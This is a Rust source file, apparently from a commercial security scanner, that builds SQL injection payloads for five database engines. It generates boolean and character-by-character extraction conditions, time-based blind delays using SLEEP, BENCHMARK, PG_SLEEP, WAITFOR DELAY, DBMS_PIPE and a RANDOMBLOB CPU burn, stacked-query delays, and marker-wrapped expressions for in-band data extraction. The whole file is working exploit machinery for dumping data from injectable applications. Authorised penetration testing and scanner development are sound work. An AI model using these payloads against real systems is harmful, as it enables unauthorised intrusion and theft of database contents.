// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - SQL Dialect Capability
 * Renders abstract oracle operations into per-DBMS condition expressions
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary - Enterprise Edition
 */

use serde::{Deserialize, Serialize};
use std::fmt;
use std::sync::Arc;

/// Marks the start of an in-band value in a response body
pub const INBAND_START: &str = "qvxvq";
/// Marks the end of an in-band value in a response body
pub const INBAND_STOP: &str = "qpkpq";
/// Stands in for SQL NULL between the in-band markers
pub const INBAND_NULL: &str = "qnulq";

/// Database identity supplied by the detection phase
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Dbms {
    MySql,
    PostgreSql,
    MsSql,
    Oracle,
    Sqlite,
}

impl fmt::Display for Dbms {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Dbms::MySql => "MySQL",
            Dbms::PostgreSql => "PostgreSQL",
            Dbms::MsSql => "Microsoft SQL Server",
            Dbms::Oracle => "Oracle",
            Dbms::Sqlite => "SQLite",
        };
        f.write_str(name)
    }
}

/// Abstract operations the extractor needs, rendered for one DBMS.
///
/// Positions passed to [`Dialect::char_code_at`] are 1-based, matching SQL
/// substring functions.
pub trait Dialect: Send + Sync {
    fn dbms(&self) -> Dbms;

    fn length_of(&self, expr: &str) -> String;

    fn char_code_at(&self, expr: &str, position: usize) -> String;

    fn is_null_check(&self, expr: &str) -> String {
        format!("({}) IS NULL", expr)
    }

    fn exists_check(&self, expr: &str) -> String {
        format!("EXISTS({})", expr)
    }

    fn greater_than(&self, lhs: &str, value: u64) -> String {
        format!("{}>{}", lhs, value)
    }

    fn in_set(&self, lhs: &str, codes: &[u8]) -> String {
        let list = codes
            .iter()
            .map(|c| c.to_string())
            .collect::<Vec<_>>()
            .join(",");
        format!("{} IN ({})", lhs, list)
    }

    fn tautology(&self) -> String {
        "1=1".to_string()
    }

    fn contradiction(&self) -> String {
        "1=2".to_string()
    }

    /// Inline condition that stalls for `seconds` when `condition` holds
    fn time_delay(&self, condition: &str, seconds: u64) -> String;

    /// Stacked statement that stalls for `seconds` when `condition` holds
    fn stacked_delay(&self, condition: &str, seconds: u64) -> String;

    /// Expression returning `expr` between the in-band markers
    fn inband_wrap(&self, expr: &str) -> String;
}

/// Select the dialect for a DBMS identity, honouring known version quirks
pub fn dialect_for(dbms: Dbms, version: Option<&str>) -> Arc<dyn Dialect> {
    match dbms {
        Dbms::MySql => Arc::new(MySqlDialect {
            version: version.and_then(parse_version),
        }),
        Dbms::PostgreSql => Arc::new(PostgreSqlDialect),
        Dbms::MsSql => Arc::new(MsSqlDialect),
        Dbms::Oracle => Arc::new(OracleDialect),
        Dbms::Sqlite => Arc::new(SqliteDialect),
    }
}

fn parse_version(raw: &str) -> Option<(u32, u32, u32)> {
    let mut parts = raw
        .split(|c: char| !c.is_ascii_digit())
        .filter(|p| !p.is_empty())
        .map(|p| p.parse::<u32>().ok());
    let major = parts.next()??;
    let minor = parts.next().flatten().unwrap_or(0);
    let patch = parts.next().flatten().unwrap_or(0);
    Some((major, minor, patch))
}

#[derive(Debug, Clone, Default)]
pub struct MySqlDialect {
    version: Option<(u32, u32, u32)>,
}

impl MySqlDialect {
    /// SLEEP() appeared in 5.0.12; older servers need a BENCHMARK loop
    fn has_sleep(&self) -> bool {
        self.version.map(|v| v >= (5, 0, 12)).unwrap_or(true)
    }

    fn stall(&self, seconds: u64) -> String {
        if self.has_sleep() {
            format!("SLEEP({})", seconds)
        } else {
            format!("BENCHMARK({},MD5(1))", seconds * 5_000_000)
        }
    }
}

impl Dialect for MySqlDialect {
    fn dbms(&self) -> Dbms {
        Dbms::MySql
    }

    fn length_of(&self, expr: &str) -> String {
        format!("CHAR_LENGTH(({}))", expr)
    }

    fn char_code_at(&self, expr: &str, position: usize) -> String {
        format!("ORD(MID(({}),{},1))", expr, position)
    }

    fn time_delay(&self, condition: &str, seconds: u64) -> String {
        format!("0=IF(({}),{},0)", condition, self.stall(seconds))
    }

    fn stacked_delay(&self, condition: &str, seconds: u64) -> String {
        format!(";SELECT IF(({}),{},0)", condition, self.stall(seconds))
    }

    fn inband_wrap(&self, expr: &str) -> String {
        format!(
            "CONCAT('{}',IFNULL(CAST(({}) AS CHAR),'{}'),'{}')",
            INBAND_START, expr, INBAND_NULL, INBAND_STOP
        )
    }
}

#[derive(Debug, Clone, Default)]
pub struct PostgreSqlDialect;

impl Dialect for PostgreSqlDialect {
    fn dbms(&self) -> Dbms {
        Dbms::PostgreSql
    }

    fn length_of(&self, expr: &str) -> String {
        format!("LENGTH(({})::text)", expr)
    }

    fn char_code_at(&self, expr: &str, position: usize) -> String {
        format!("ASCII(SUBSTRING(({})::text FROM {} FOR 1))", expr, position)
    }

    fn time_delay(&self, condition: &str, seconds: u64) -> String {
        format!(
            "1=(CASE WHEN ({}) THEN (SELECT 1 FROM PG_SLEEP({})) ELSE 1 END)",
            condition, seconds
        )
    }

    fn stacked_delay(&self, condition: &str, seconds: u64) -> String {
        format!(
            ";SELECT CASE WHEN ({}) THEN PG_SLEEP({}) ELSE PG_SLEEP(0) END",
            condition, seconds
        )
    }

    fn inband_wrap(&self, expr: &str) -> String {
        format!(
            "'{}'||COALESCE(CAST(({}) AS TEXT),'{}')||'{}'",
            INBAND_START, expr, INBAND_NULL, INBAND_STOP
        )
    }
}

#[derive(Debug, Clone, Default)]
pub struct MsSqlDialect;

impl Dialect for MsSqlDialect {
    fn dbms(&self) -> Dbms {
        Dbms::MsSql
    }

    // LEN() ignores trailing blanks
    fn length_of(&self, expr: &str) -> String {
        format!("LEN(({})+'.')-1", expr)
    }

    fn char_code_at(&self, expr: &str, position: usize) -> String {
        format!("UNICODE(SUBSTRING(({}),{},1))", expr, position)
    }

    // No inline sleep primitive; WAITFOR only works as a statement
    fn time_delay(&self, condition: &str, seconds: u64) -> String {
        self.stacked_delay(condition, seconds)
    }

    fn stacked_delay(&self, condition: &str, seconds: u64) -> String {
        format!(";IF({}) WAITFOR DELAY '0:0:{}'", condition, seconds)
    }

    fn inband_wrap(&self, expr: &str) -> String {
        format!(
            "'{}'+ISNULL(CAST(({}) AS NVARCHAR(4000)),'{}')+'{}'",
            INBAND_START, expr, INBAND_NULL, INBAND_STOP
        )
    }
}

#[derive(Debug, Clone, Default)]
pub struct OracleDialect;

impl Dialect for OracleDialect {
    fn dbms(&self) -> Dbms {
        Dbms::Oracle
    }

    // Empty strings are NULL on Oracle, so a zero length reads as NULL
    fn length_of(&self, expr: &str) -> String {
        format!("NVL(LENGTH(({})),0)", expr)
    }

    fn char_code_at(&self, expr: &str, position: usize) -> String {
        format!("ASCII(SUBSTR(({}),{},1))", expr, position)
    }

    fn time_delay(&self, condition: &str, seconds: u64) -> String {
        format!(
            "1=(CASE WHEN ({}) THEN DBMS_PIPE.RECEIVE_MESSAGE('{}',{}) ELSE 1 END)",
            condition, INBAND_START, seconds
        )
    }

    fn stacked_delay(&self, condition: &str, seconds: u64) -> String {
        format!(
            ";BEGIN IF ({}) THEN DBMS_LOCK.SLEEP({}); END IF; END;",
            condition, seconds
        )
    }

    fn inband_wrap(&self, expr: &str) -> String {
        format!(
            "'{}'||NVL(CAST(({}) AS VARCHAR2(4000)),'{}')||'{}'",
            INBAND_START, expr, INBAND_NULL, INBAND_STOP
        )
    }
}

#[derive(Debug, Clone, Default)]
pub struct SqliteDialect;

impl SqliteDialect {
    // No sleep function: burn CPU on a large random blob instead
    fn heavy_query(seconds: u64) -> String {
        format!(
            "LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({}))))",
            seconds * 100_000_000 / 2
        )
    }
}

impl Dialect for SqliteDialect {
    fn dbms(&self) -> Dbms {
        Dbms::Sqlite
    }

    fn length_of(&self, expr: &str) -> String {
        format!("LENGTH(({}))", expr)
    }

    fn char_code_at(&self, expr: &str, position: usize) -> String {
        format!("UNICODE(SUBSTR(({}),{},1))", expr, position)
    }

    fn time_delay(&self, condition: &str, seconds: u64) -> String {
        format!(
            "1=(CASE WHEN ({}) THEN {} ELSE 1 END)",
            condition,
            Self::heavy_query(seconds)
        )
    }

    fn stacked_delay(&self, condition: &str, seconds: u64) -> String {
        format!(";SELECT {}", self.time_delay(condition, seconds))
    }

    fn inband_wrap(&self, expr: &str) -> String {
        format!(
            "'{}'||COALESCE(CAST(({}) AS TEXT),'{}')||'{}'",
            INBAND_START, expr, INBAND_NULL, INBAND_STOP
        )
    }
}
